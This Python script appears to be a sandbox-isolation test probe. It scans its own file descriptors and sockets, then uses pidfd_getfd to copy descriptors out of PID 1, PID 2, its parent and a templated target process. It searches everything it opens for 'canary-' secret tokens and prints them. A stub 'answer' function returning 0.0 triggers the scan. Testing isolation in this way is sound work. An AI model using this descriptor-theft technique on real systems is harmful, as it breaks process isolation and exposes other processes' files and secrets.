"""Every descriptor number is read, and others' are asked for: by pidfd and as passengers of the channel."""

import ctypes
import os
import re
import socket
import stat
import struct

FOUND = set()
ASKED = []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def contents(number):
    mode = os.fstat(number).st_mode
    if stat.S_ISREG(mode):
        FOUND.update(re.findall(rb"canary-[0-9a-f]{32}", os.pread(number, 1 << 20, 0)))
    if stat.S_ISSOCK(mode) and not hasattr(get_ipython(), "kernel"):
        with socket.socket(fileno=os.dup(number)) as channel:
            data, passengers, _, _ = channel.recvmsg(1 << 16, 256, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            FOUND.update(re.findall(rb"canary-[0-9a-f]{32}", data))
            for _, _, numbers in passengers:
                for passenger in struct.iter_unpack("i", numbers):
                    contents(*passenger)


def look():
    for number in range(1024):
        try:
            contents(number)
        except (OSError, ValueError):
            pass
    for process in {1, 2, os.getppid(), int("@PID@")} - {os.getpid()}:
        handle = libc.syscall(PIDFD_OPEN, process, 0)
        for theirs in range(64) if handle >= 0 else ():
            number = libc.syscall(PIDFD_GETFD, handle, theirs, 0)
            if number >= 0:
                try:
                    if stat.S_ISREG(os.fstat(number).st_mode):
                        contents(number)
                except OSError:
                    pass
                os.close(number)
    print(*(found.decode() for found in FOUND))


look()


def answer(*given):
    if not ASKED:
        ASKED.append(given)
        look()
    return 0.0
